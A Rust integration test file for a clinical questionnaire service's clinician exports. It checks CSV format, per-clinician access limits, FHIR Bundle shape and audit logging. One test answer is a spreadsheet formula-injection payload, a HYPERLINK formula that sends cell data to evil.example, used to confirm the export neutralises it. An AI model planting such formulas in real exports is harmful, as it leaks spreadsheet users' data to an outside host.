//! The clinician's exports (issue 16, point 4) over HTTP, with sessions inserted through the
//! store as tests/clinician.rs does: the CSV per questionnaire (columns, BOM, CRLF, formula
//! neutralisation, only the viewer's patients, the audit) and a patient's FHIR Bundle (shape,
//! 404 for another clinician's patient, the audit). SQLite by default, PostgreSQL with
//! `RAPPORT_TEST_POSTGRES`.
//!
//! With `RAPPORT_FHIR_BUNDLE_DIR` set (the `fhir` step of `cargo xtask test` sets it), the
//! Bundle test also writes the Bundle it got to `<dir>/clinician-export.bundle.json`, which
//! `scripts/validate_fhir.py` then checks with an independent FHIR validator.

use std::path::PathBuf;

use axum::body::{to_bytes, Body};
use axum::http::{header, Request, StatusCode};
use axum::Router;
use rapport_core::answers::{AnswerValue, Answers};
use rapport_core::bundled;
use rapport_core::definition::Questionnaire;
use rapport_core::envelope::{Envelope, EnvelopeMeta};
use rapport_core::subject::SubjectClaims;
use rapport_receiver::clinician::meta::patient_ref;
use rapport_receiver::clinician::{session_hash, SESSION_SECS};
use rapport_receiver::store::{AuditEntry, ClinicianSession, NewRecord};
use rapport_receiver::subject::Subject;
use rapport_receiver::{open_store, router_with, Config, Receipt, Store};
use serde_json::{json, Value};
use tower::ServiceExt;

mod common;
use common::{config_in, TempDir};

const PORTAL: &str = "https://portal.example";

/// A clinic questionnaire with every kind of column: a choice with ordinal points, a choice
/// without, a whole number, free text; a score and a flag.
const DEFINITION: &str = r#"{
  "resourceType": "Questionnaire",
  "url": "https://clinic.example/fhir/Questionnaire/export-check",
  "version": "2.0",
  "name": "ExportCheck",
  "status": "draft",
  "language": "en",
  "extension": [
    {"url": "https://rapport.dev/fhir/StructureDefinition/score", "extension": [
      {"url": "id", "valueCode": "total"}, {"url": "method", "valueCode": "sum"},
      {"url": "item", "valueString": "mood"}, {"url": "item", "valueString": "sleep"},
      {"url": "minAnswered", "valueInteger": 2}]},
    {"url": "https://rapport.dev/fhir/StructureDefinition/flag", "extension": [
      {"url": "id", "valueCode": "lowest"}, {"url": "when", "valueCode": "any-item-at-minimum"},
      {"url": "score", "valueCode": "total"}]}
  ],
  "item": [
    {"linkId": "mood", "type": "choice", "text": "Mood", "answerOption": [
      {"valueCoding": {"system": "https://clinic.example/cs/m", "code": "low"},
       "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/ordinalValue", "valueDecimal": 0}]},
      {"valueCoding": {"system": "https://clinic.example/cs/m", "code": "ok"},
       "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/ordinalValue", "valueDecimal": 1}]},
      {"valueCoding": {"system": "https://clinic.example/cs/m", "code": "good"},
       "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/ordinalValue", "valueDecimal": 2}]}]},
    {"linkId": "where", "type": "choice", "text": "Where", "answerOption": [
      {"valueCoding": {"system": "https://clinic.example/cs/w", "code": "home"}},
      {"valueCoding": {"system": "https://clinic.example/cs/w", "code": "clinic"}}]},
    {"linkId": "sleep", "type": "integer", "text": "Sleep", "extension": [
      {"url": "http://hl7.org/fhir/StructureDefinition/minValue", "valueInteger": 0},
      {"url": "http://hl7.org/fhir/StructureDefinition/maxValue", "valueInteger": 10}]},
    {"linkId": "note", "type": "string", "text": "Anything else?"}
  ]
}"#;

fn now() -> i64 {
    time::OffsetDateTime::now_utc().unix_timestamp()
}

fn coding(system: &str, code: &str) -> AnswerValue {
    AnswerValue::Coding {
        system: Some(system.into()),
        code: code.into(),
    }
}

/// Stores what the widget would have sent for `sub` (a `/2` envelope, its token dropped as the
/// receiver does), filed under the subject with `team`; the record's id.
#[allow(clippy::too_many_arguments)]
async fn store_envelope(
    store: &Store,
    q: &Questionnaire,
    instrument_id: &str,
    answers: &Answers,
    sub: &str,
    name: Option<&str>,
    team: &[&str],
    at: &str,
) -> String {
    let key = uuid::Uuid::new_v4().to_string();
    let version = q.version.clone().unwrap_or_default();
    let who = SubjectClaims {
        iss: PORTAL.into(),
        sub: sub.into(),
    };
    let meta = EnvelopeMeta {
        idempotency_key: &key,
        instrument_id,
        version: &version,
        language: "en",
        translation_status: "source",
        submitted_at: at,
        previous_scores: &Default::default(),
        context: &json!({}),
        subject: Some(("token", &who)),
        widget_version: None,
    };
    let mut envelope = Envelope::build(q, answers, &meta, &|_, _| None).to_json();
    envelope.as_object_mut().unwrap().remove("subjectToken");
    let record = NewRecord {
        idempotency_key: key.clone(),
        body_sha256: format!("{:064}", 0),
        instrument_id: instrument_id.into(),
        instrument_version: version,
        language: "en".into(),
        scores: envelope["scores"].to_string(),
        flags: envelope["flags"].to_string(),
        envelope: envelope.to_string(),
        verified: true,
        subject: Some(Subject {
            system: PORTAL.into(),
            value: sub.into(),
            verified: true,
            name: name.map(str::to_owned),
            care_team: Some(team.iter().map(|s| (*s).to_owned()).collect()),
            episode: None,
        }),
        previous_scores_from: None,
        history: None,
    };
    let id = uuid::Uuid::new_v4().to_string();
    let receipt = Receipt {
        id: id.clone(),
        idempotency_key: key,
        received_at: at.into(),
    };
    store.insert(&record, receipt).await.expect("stored");
    id
}

async fn app(dir: &TempDir, definitions: Option<PathBuf>) -> (Router, Store) {
    let mut config: Config = config_in(dir).await;
    config.oidc_issuer = Some("http://127.0.0.1:9".into());
    config.oidc_client_id = Some("rapport".into());
    config.oidc_client_secret = Some("client-secret-for-the-export-tests".into());
    config.public_url = Some("http://127.0.0.1:8080".into());
    config.definitions_dirs = definitions.into_iter().collect();
    let store = open_store(&config).await.unwrap();
    let app = router_with(&config, store.clone()).unwrap();
    (app, store)
}

async fn sign_in(store: &Store, sid: &str, clinician: &str, whole_clinic: bool) -> String {
    let t = now();
    store
        .create_session(&ClinicianSession {
            id_sha256: session_hash(sid),
            clinician_id: clinician.into(),
            name: format!("Dr. {clinician}"),
            whole_clinic,
            csrf: format!("csrf-of-{sid}"),
            created_at: t,
            expires_at: t + SESSION_SECS,
        })
        .await
        .unwrap();
    format!("rapport_clinician={sid}")
}

async fn call(app: &Router, path: &str, cookie: &str) -> (StatusCode, header::HeaderMap, Vec<u8>) {
    let req = Request::builder()
        .uri(path)
        .header(header::COOKIE, cookie)
        .body(Body::empty())
        .unwrap();
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let body = to_bytes(resp.into_body(), 1 << 22).await.unwrap();
    (status, headers, body.to_vec())
}

async fn audit_of(store: &Store, action: &str) -> Vec<AuditEntry> {
    store
        .audit_page(None, 1000)
        .await
        .unwrap()
        .into_iter()
        .map(|(_, e)| e)
        .filter(|e| e.action == action)
        .collect()
}

#[tokio::test]
async fn the_csv_export_has_the_viewers_patients_one_row_per_response() {
    let dir = TempDir::new("export-csv");
    let defs = dir.path().join("definitions");
    std::fs::create_dir_all(&defs).unwrap();
    std::fs::write(defs.join("export-check.json"), DEFINITION).unwrap();
    let (app, store) = app(&dir, Some(defs)).await;
    let q = Questionnaire::from_json(DEFINITION).expect("definition");
    let m = "https://clinic.example/cs/m";

    let mut first = Answers::new();
    first.set("mood", Some(coding(m, "good")));
    first.set(
        "where",
        Some(coding("https://clinic.example/cs/w", "clinic")),
    );
    first.set("sleep", Some(AnswerValue::Integer(7)));
    first.set(
        "note",
        Some(AnswerValue::String(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into(),
        )),
    );
    let ana_1 = store_envelope(
        &store,
        &q,
        "ExportCheck",
        &first,
        "p-ana",
        Some("Ana, \"A\""),
        &["okafor"],
        "2026-11-01T09:00:00.000Z",
    )
    .await;
    let mut second = Answers::new();
    second.set("mood", Some(coding(m, "low")));
    second.set("sleep", Some(AnswerValue::Integer(3)));
    let ana_2 = store_envelope(
        &store,
        &q,
        "ExportCheck",
        &second,
        "p-ana",
        Some("Ana, \"A\""),
        &["okafor"],
        "2026-11-08T09:00:00.000Z",
    )
    .await;
    let mut only_mood = Answers::new();
    only_mood.set("mood", Some(coding(m, "ok")));
    let ben = store_envelope(
        &store,
        &q,
        "ExportCheck",
        &only_mood,
        "-p-ben",
        None,
        &["okafor", "lindqvist"],
        "2026-11-03T09:00:00.000Z",
    )
    .await;
    let chen = store_envelope(
        &store,
        &q,
        "ExportCheck",
        &first,
        "p-chen",
        Some("Chen"),
        &["lindqvist"],
        "2026-11-02T09:00:00.000Z",
    )
    .await;
    // Another questionnaire of Ana's is not in this file.
    let checkin = match bundled::load("session-checkin") {
        Some(Ok(q)) => q,
        _ => panic!("session-checkin loads"),
    };
    let mut c = Answers::new();
    for id in [
        "say-my-mind",
        "what-matters",
        "way-we-worked",
        "worth-my-time",
    ] {
        c.set(id, Some(AnswerValue::Integer(5)));
    }
    let other = store_envelope(
        &store,
        &checkin,
        "session-checkin",
        &c,
        "p-ana",
        Some("Ana, \"A\""),
        &["okafor"],
        "2026-11-09T09:00:00.000Z",
    )
    .await;

    let cookie = sign_in(&store, "sid-ok", "okafor", false).await;
    let (status, headers, body) = call(&app, "/clinician/export/ExportCheck.csv", &cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("text/csv; charset=utf-8"));
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    let disposition = headers[header::CONTENT_DISPOSITION].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"ExportCheck-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert_eq!(&body[..3], b"\xEF\xBB\xBF", "UTF-8 byte order mark");
    let text = String::from_utf8(body[3..].to_vec()).unwrap();
    assert!(text.ends_with("\r\n"));
    let lines: Vec<&str> = text.trim_end_matches("\r\n").split("\r\n").collect();
    assert!(!text.replace("\r\n", "").contains('\n'), "CRLF only");
    assert_eq!(
        lines[0],
        "response_id,patient,patient_id,received,language,instrument_version,\
         mood,where,sleep,note,score:total,flag:lowest"
    );
    assert_eq!(lines.len(), 4, "{text}");
    assert_eq!(
        lines[1],
        format!(
            "{ana_1},\"Ana, \"\"A\"\"\",{PORTAL}|p-ana,2026-11-01T09:00:00.000Z,en,2.0,\
             2,clinic,7,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",9,"
        )
    );
    assert_eq!(
        lines[2],
        format!(
            "{ana_2},\"Ana, \"\"A\"\"\",{PORTAL}|p-ana,2026-11-08T09:00:00.000Z,en,2.0,0,,3,,3,1"
        )
    );
    // A patient's id that starts with "-" is text: neutralised; the label falls back to it.
    assert_eq!(
        lines[3],
        format!("{ben},'-p-ben,{PORTAL}|-p-ben,2026-11-03T09:00:00.000Z,en,2.0,1,,,,,")
    );
    assert!(!text.contains(&chen) && !text.contains("Chen"), "{text}");
    assert!(!text.contains(&other));

    // ?version= of another version: unknown; of this one: the same rows.
    let (status, _, body) = call(
        &app,
        "/clinician/export/ExportCheck.csv?version=1.0",
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let not_found = String::from_utf8(body).unwrap();
    let (status, _, body) = call(&app, "/clinician/export/Unknown.csv", &cookie).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(String::from_utf8(body).unwrap(), not_found);
    let (status, headers, body) = call(
        &app,
        "/clinician/export/https%3A%2F%2Fclinic.example%2Ffhir%2FQuestionnaire%2Fexport-check.csv?version=2.0",
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "by url, with its version");
    assert_eq!(
        String::from_utf8(body[3..].to_vec())
            .unwrap()
            .lines()
            .count(),
        4
    );
    assert!(headers[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .contains("-2.0-"));

    // The whole clinic sees Chen too.
    let lead = sign_in(&store, "sid-lead", "mensah", true).await;
    let (_, _, body) = call(&app, "/clinician/export/ExportCheck.csv", &lead).await;
    let text = String::from_utf8(body).unwrap();
    assert_eq!(text.lines().count(), 5);
    assert!(text.contains(&chen));

    // Signed out: the sign-in page, no file.
    let (status, headers, _) = call(&app, "/clinician/export/ExportCheck.csv", "x=1").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(headers.get(header::CONTENT_DISPOSITION).is_none());

    let audit = audit_of(&store, "clinician-export-csv").await;
    assert_eq!(audit.len(), 3, "{audit:?}");
    assert_eq!(audit[0].actor, "clinician:okafor");
    assert_eq!(
        audit[0].records,
        [ana_1.clone(), ana_2.clone(), ben.clone()]
    );
    assert_eq!(audit[0].count, 3);
    assert_eq!(audit[0].route, "GET /clinician/export/ExportCheck.csv");
    assert_eq!(audit[0].outcome, "ok");
    assert_eq!(audit[2].actor, "clinician:mensah");
    assert_eq!(audit[2].count, 4);
    let all = format!("{audit:?}");
    assert!(!all.contains("HYPERLINK") && !all.contains("Ana"), "{all}");

    // The home page links every questionnaire's file.
    let (_, _, body) = call(&app, "/clinician/", &cookie).await;
    // minijinja escapes "/" in attributes as "&#x2f;".
    let home = String::from_utf8(body).unwrap().replace("&#x2f;", "/");
    assert!(
        home.contains("<h2 id=\"exports-heading\">Exports</h2>"),
        "{home}"
    );
    assert!(
        home.contains("href=\"/clinician/export/ExportCheck.csv\""),
        "{home}"
    );
    assert!(home.contains("href=\"/clinician/export/session-checkin.csv\""));
    if let Ok(out) = std::env::var("RAPPORT_EXPORT_PAGE_DIR") {
        std::fs::write(PathBuf::from(out).join("home.html"), &home).unwrap();
    }
}

#[tokio::test]
async fn a_patients_bundle_holds_their_questionnaire_responses() {
    let dir = TempDir::new("export-bundle");
    let (app, store) = app(&dir, None).await;
    let checkin = match bundled::load("session-checkin") {
        Some(Ok(q)) => q,
        _ => panic!("session-checkin loads"),
    };
    let answers = |v: i64| {
        let mut a = Answers::new();
        for id in [
            "say-my-mind",
            "what-matters",
            "way-we-worked",
            "worth-my-time",
        ] {
            a.set(id, Some(AnswerValue::Integer(v)));
        }
        a
    };
    let mut ids = Vec::new();
    for (v, at) in [
        (8, "2026-11-01T09:00:00.000Z"),
        (2, "2026-11-08T09:00:00.000Z"),
    ] {
        ids.push(
            store_envelope(
                &store,
                &checkin,
                "session-checkin",
                &answers(v),
                "p-ana",
                Some("Ana"),
                &["okafor"],
                at,
            )
            .await,
        );
    }
    let chen = store_envelope(
        &store,
        &checkin,
        "session-checkin",
        &answers(5),
        "p-chen",
        Some("Chen"),
        &["lindqvist"],
        "2026-11-02T09:00:00.000Z",
    )
    .await;
    let cookie = sign_in(&store, "sid-ok", "okafor", false).await;
    let ana = patient_ref(PORTAL, "p-ana");
    let (status, headers, body) = call(
        &app,
        &format!("/clinician/patients/{ana}/bundle.json"),
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("application/fhir+json"));
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    let bundle: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(bundle["resourceType"], "Bundle");
    assert_eq!(bundle["type"], "collection");
    assert!(bundle.get("total").is_none(), "no total in a collection");
    let stamp = bundle["timestamp"].as_str().unwrap();
    assert!(
        time::OffsetDateTime::parse(stamp, &time::format_description::well_known::Rfc3339).is_ok(),
        "{stamp}"
    );
    let entries = bundle["entry"].as_array().unwrap();
    assert_eq!(entries.len(), 2);
    for (entry, id) in entries.iter().zip(&ids) {
        assert_eq!(entry["fullUrl"], format!("urn:uuid:{id}"));
        let qr = &entry["resource"];
        assert_eq!(qr["resourceType"], "QuestionnaireResponse");
        assert_eq!(qr["status"], "completed");
        assert_eq!(
            qr["subject"],
            json!({"identifier": {"system": PORTAL, "value": "p-ana"}})
        );
        assert_eq!(
            qr["questionnaire"],
            "https://rapport.dev/fhir/Questionnaire/session-checkin|1.0.0"
        );
    }
    assert_eq!(
        entries[1]["resource"]["item"][0]["answer"][0]["valueInteger"],
        2
    );
    assert!(!String::from_utf8_lossy(&body).contains("p-chen"));
    if let Ok(out) = std::env::var("RAPPORT_FHIR_BUNDLE_DIR") {
        std::fs::create_dir_all(&out).unwrap();
        std::fs::write(
            PathBuf::from(out).join("clinician-export.bundle.json"),
            &body,
        )
        .unwrap();
    }

    // Chen is Dr. Lindqvist's patient: 404 with the page of a patient that does not exist.
    let chens = patient_ref(PORTAL, "p-chen");
    let (status, headers, body) = call(
        &app,
        &format!("/clinician/patients/{chens}/bundle.json"),
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(headers.get(header::CONTENT_DISPOSITION).is_none());
    let refused = String::from_utf8(body).unwrap();
    assert!(!refused.contains("Chen") && !refused.contains(&chen));
    let nobody = patient_ref(PORTAL, "p-nobody");
    let (status, _, body) = call(
        &app,
        &format!("/clinician/patients/{nobody}/bundle.json"),
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(String::from_utf8(body).unwrap(), refused);

    let lindqvist = sign_in(&store, "sid-l", "lindqvist", false).await;
    let (status, _, body) = call(
        &app,
        &format!("/clinician/patients/{chens}/bundle.json"),
        &lindqvist,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let bundle: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(bundle["entry"].as_array().unwrap().len(), 1);
    assert_eq!(bundle["entry"][0]["fullUrl"], format!("urn:uuid:{chen}"));

    let audit = audit_of(&store, "clinician-export-bundle").await;
    assert_eq!(audit.len(), 3, "{audit:?}");
    assert_eq!(audit[0].actor, "clinician:okafor");
    assert_eq!(audit[0].records, ids);
    assert_eq!(audit[0].count, 2);
    assert_eq!(audit[0].outcome, "ok");
    assert_eq!(
        audit[0].route,
        format!("GET /clinician/patients/{ana}/bundle.json")
    );
    assert_eq!(audit[1].actor, "clinician:okafor");
    assert_eq!(audit[1].outcome, "refused 404");
    assert!(audit[1].records.is_empty());
    assert_eq!(audit[2].actor, "clinician:lindqvist");
    assert_eq!(audit[2].records, [chen]);
}
